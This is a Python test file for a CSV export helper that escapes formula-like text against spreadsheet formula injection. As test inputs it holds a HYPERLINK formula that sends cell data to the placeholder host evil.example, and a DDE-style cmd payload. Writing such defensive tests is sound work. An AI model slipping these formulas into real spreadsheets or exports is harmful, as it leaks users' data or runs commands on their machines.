"""CSV exports escape text a spreadsheet would run as a formula, and nothing else."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest

from sentinelle.tables import FORMULA_STARTS, escape_formulas, write_csv

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_text_starting_like_a_formula_is_escaped(start: str) -> None:
    frame = pd.DataFrame({"actor": [f"{start}cmd|' /C calc'!A0", "JNIM"]})
    assert escape_formulas(frame)["actor"].tolist() == [f"'{start}cmd|' /C calc'!A0", "JNIM"]


def test_numbers_dates_and_missing_values_stay_as_they_are(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "actor": [LEAK, None],
            "fatalities": [-3, 4],
            "share": [-0.5, float("nan")],
            "day": pd.to_datetime(["2024-01-02", "2024-01-03"]),
            "mixed": ["@SUM(A1)", -1],
        },
        index=pd.Index(["+x", "y"], name="-label"),
    )
    path = write_csv(frame, tmp_path / "t.csv", index=True)
    rows = list(csv.reader(path.read_text(encoding="utf-8").splitlines()))
    assert rows == [
        ["'-label", "actor", "fatalities", "share", "day", "mixed"],
        ["'+x", "'" + LEAK, "-3", "-0.5", "2024-01-02", "'@SUM(A1)"],
        ["y", "", "4", "", "2024-01-03", "-1"],
    ]
    assert frame.loc["+x", "actor"] == LEAK  # the caller's frame is not changed


def test_pivoted_labels_are_escaped() -> None:
    frame = pd.DataFrame({"actor": ["=1+1", "B"], "year": ["2019", "2019"], "events": [1, 2]})
    wide = frame.pivot_table(index="year", columns="actor", values="events")
    assert list(escape_formulas(wide).columns) == ["'=1+1", "B"]
